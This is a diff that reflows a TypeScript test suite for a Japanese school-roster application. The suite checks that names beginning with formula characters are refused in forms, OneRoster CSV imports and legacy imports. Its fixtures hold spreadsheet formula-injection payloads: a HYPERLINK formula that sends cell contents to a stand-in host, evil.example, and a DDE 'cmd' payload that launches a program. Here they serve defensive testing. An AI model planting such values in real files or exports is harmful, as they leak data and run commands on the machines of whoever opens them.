@@ -18,15 +18,30 @@ import { createAcademy, createSchool, createUser, uniqueTag } from "../../prisma
 import { editFile, loadFixture, where } from "../unit/oneroster-fixture";
 import { session, sessionCookieOf } from "./next-headers-fake";
 
-const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"出席簿")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"出席簿")',
+  "+1+1",
+  "-2+3",
+  "@SUM(A1:A9)",
+  "=cmd|' /C calc'!A0",
+];
 const ids = { school: "", academy: "", teacher: "", manager: "" };
 
 beforeAll(async () => {
   const tag = uniqueTag();
   ids.academy = (await createAcademy(db(), { name: `F${tag}`, nameKana: "えふ" })).id;
   ids.school = (await createSchool(db(), { academyId: ids.academy, name: `F${tag}`, nameKana: "えふ" })).id;
-  ids.teacher = (await createUser(db(), { role: "teacher", email: `t-${tag}@formula.example`, name: "先生", schoolId: ids.school })).id;
-  ids.manager = (await createUser(db(), { role: "manager", email: `m-${tag}@formula.example`, name: "管理者", academyId: ids.academy })).id;
+  ids.teacher = (
+    await createUser(db(), { role: "teacher", email: `t-${tag}@formula.example`, name: "先生", schoolId: ids.school })
+  ).id;
+  ids.manager = (
+    await createUser(db(), {
+      role: "manager",
+      email: `m-${tag}@formula.example`,
+      name: "管理者",
+      academyId: ids.academy,
+    })
+  ).id;
 });
 afterAll(async () => {
   await db().$disconnect();
@@ -35,12 +50,29 @@ afterAll(async () => {
 describe("names that are formulas are refused wherever names enter", () => {
   it.each(FORMULAS)("the add-student and add-teacher forms refuse the name %s and add nobody", async (name) => {
     session.cookie = await sessionCookieOf(ids.teacher, "teacher");
-    expect(await addStudentAction({ name, grade: 1, className: "1", number: 9 })).toEqual({ ok: false, code: "VALIDATION", fieldErrors: { name: ["formula"] } });
-    expect(await addStudentAction({ name: "山田 花子", nickname: name, grade: 1, className: "1", number: 9 })).toEqual({ ok: false, code: "VALIDATION", fieldErrors: { nickname: ["formula"] } });
+    expect(await addStudentAction({ name, grade: 1, className: "1", number: 9 })).toEqual({
+      ok: false,
+      code: "VALIDATION",
+      fieldErrors: { name: ["formula"] },
+    });
+    expect(await addStudentAction({ name: "山田 花子", nickname: name, grade: 1, className: "1", number: 9 })).toEqual({
+      ok: false,
+      code: "VALIDATION",
+      fieldErrors: { nickname: ["formula"] },
+    });
     session.cookie = await sessionCookieOf(ids.manager, "manager");
-    const teacher = await addTeacherAction({ schoolId: ids.school, name, nameKana: "", email: `x-${uniqueTag()}@formula.example` });
+    const teacher = await addTeacherAction({
+      schoolId: ids.school,
+      name,
+      nameKana: "",
+      email: `x-${uniqueTag()}@formula.example`,
+    });
     expect(teacher).toEqual({ ok: false, code: "VALIDATION", fieldErrors: { name: ["formula"] } });
-    expect(await createSchoolAction({ name, nameKana: "" })).toEqual({ ok: false, code: "VALIDATION", fieldErrors: { name: ["formula"] } });
+    expect(await createSchoolAction({ name, nameKana: "" })).toEqual({
+      ok: false,
+      code: "VALIDATION",
+      fieldErrors: { name: ["formula"] },
+    });
     expect(await db().user.count({ where: { OR: [{ name }, { nickname: name }] } })).toBe(0);
     expect(await db().school.count({ where: { name } })).toBe(0);
   });
@@ -67,14 +99,22 @@ describe("names that are formulas are refused wherever names enter", () => {
 
   it("a OneRoster set with a formula in a name, reading or title is refused at its file, line and column", async () => {
     const files = editFile(
-      editFile(loadFixture("bulk-jhs"), "users.csv", (text) => text.replace('"花子","山田"', '"=HYPERLINK(""http://evil.example"")","山田"').replace('"ハナコ","ヤマダ"', '"ハナコ","@SUM(A1)"')),
+      editFile(loadFixture("bulk-jhs"), "users.csv", (text) =>
+        text
+          .replace('"花子","山田"', '"=HYPERLINK(""http://evil.example"")","山田"')
+          .replace('"ハナコ","ヤマダ"', '"ハナコ","@SUM(A1)"'),
+      ),
       "classes.csv",
       (text) => text.replace('"1年1組"', '"+1年1組"'),
     );
     const read = await readRosterPackage(files);
     expect(read.set).toBeNull();
     const formulas = read.problems.filter((p) => p.code === "fieldFormula");
-    expect(where(formulas).sort()).toEqual(["fieldFormula classes.csv:2 title", "fieldFormula users.csv:3 givenName", "fieldFormula users.csv:3 metadata.jp.kanaFamilyName"]);
+    expect(where(formulas).sort()).toEqual([
+      "fieldFormula classes.csv:2 title",
+      "fieldFormula users.csv:3 givenName",
+      "fieldFormula users.csv:3 metadata.jp.kanaFamilyName",
+    ]);
     expect(formulas.find((p) => p.column === "givenName")!.message).toContain("users.csv の 3 行目「givenName」");
     expect(formulas[0]!.message).toContain("式として動くため受け付けません");
   });
@@ -87,7 +127,8 @@ describe("names that are formulas are refused wherever names enter", () => {
       },
       schools: {
         s1: {
-          name: "=1+1", nameKana: "+ひがし",
+          name: "=1+1",
+          nameKana: "+ひがし",
           students: { u1: { email: "a@legacy.example", name: "@SUM(A1)", nickName: "はな" } },
           teachers: { u2: { email: "b@legacy.example", name: "先生 一郎", nickName: "-1" } },
         },
@@ -96,7 +137,10 @@ describe("names that are formulas are refused wherever names enter", () => {
     expect(read.ok).toBe(false);
     if (read.ok) return;
     expect(read.problems.map((p) => `${p.path} ${p.message.split(" ")[0]}`)).toEqual([
-      "schools/s1 name", "schools/s1 nameKana", "schools/s1/students/u1 name", "schools/s1/teachers/u2 nickName",
+      "schools/s1 name",
+      "schools/s1 nameKana",
+      "schools/s1/students/u1 name",
+      "schools/s1/teachers/u2 nickName",
     ]);
     for (const p of read.problems) expect(p.message).toContain("a spreadsheet would run it as a formula");
   });
